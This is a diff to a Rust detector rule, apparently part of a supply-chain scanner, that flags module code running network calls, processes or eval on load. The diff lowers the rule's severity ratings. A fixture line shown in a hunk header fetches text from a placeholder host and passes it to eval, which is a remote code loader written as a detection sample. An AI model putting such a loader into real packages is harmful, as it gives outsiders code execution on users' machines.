@@ -6,7 +6,7 @@ use crate::model::{Confidence, Severity};
 pub(super) static FINDING: Declaration = Declaration {
     id: "foreign-body",
     title: "Holds code that has no business with the module around it",
-    severity: Severity::High,
+    severity: Severity::Medium,
     summary: "At the top level of a module stands code that takes nothing from the module and gives nothing to what it exports, and that talks to the network, starts programs, runs text as code or writes files as soon as the module is loaded. So does code that was added to a published module by somebody else.",
     advice: "Compare the file with the one in the repository, or with the version before. Read the code in the range: what it does when the module is loaded is all that it is for.",
     benign_when: "A module that starts something for its users when it is loaded, such as a check for updates, and says so.",
@@ -14,7 +14,7 @@ pub(super) static FINDING: Declaration = Declaration {
     examples: &[
         Example {
             name: "a function appended behind the exports",
-            severity: Some(Severity::High),
+            severity: Some(Severity::Medium),
             files: &[
                 (
                     "package.json",
@@ -30,7 +30,7 @@ module.exports = (at) => chars[at];
         },
         Example {
             name: "one of two builds has it",
-            severity: Some(Severity::Critical),
+            severity: Some(Severity::High),
             files: &[
                 (
                     "package.json",
@@ -46,7 +46,7 @@ fetch("https://collect.invalid/").then((r) => r.text()).then(eval);"#,
         },
         Example {
             name: "a side effect import of a file that gives nothing",
-            severity: Some(Severity::High),
+            severity: Some(Severity::Medium),
             files: &[
                 (
                     "package.json",
@@ -119,10 +119,10 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
             }
             None => what,
         };
+        // How many real packages do this is not counted yet: alone it asks for a look.
         let severity = match one.twin {
-            _ if writes_only => Severity::Medium,
-            Some(_) => Severity::Critical,
-            None => Severity::High,
+            Some(_) if !writes_only => Severity::High,
+            _ => Severity::Medium,
         };
         let mut evidence: Vec<_> = one.places().collect();
         evidence.sort_unstable();
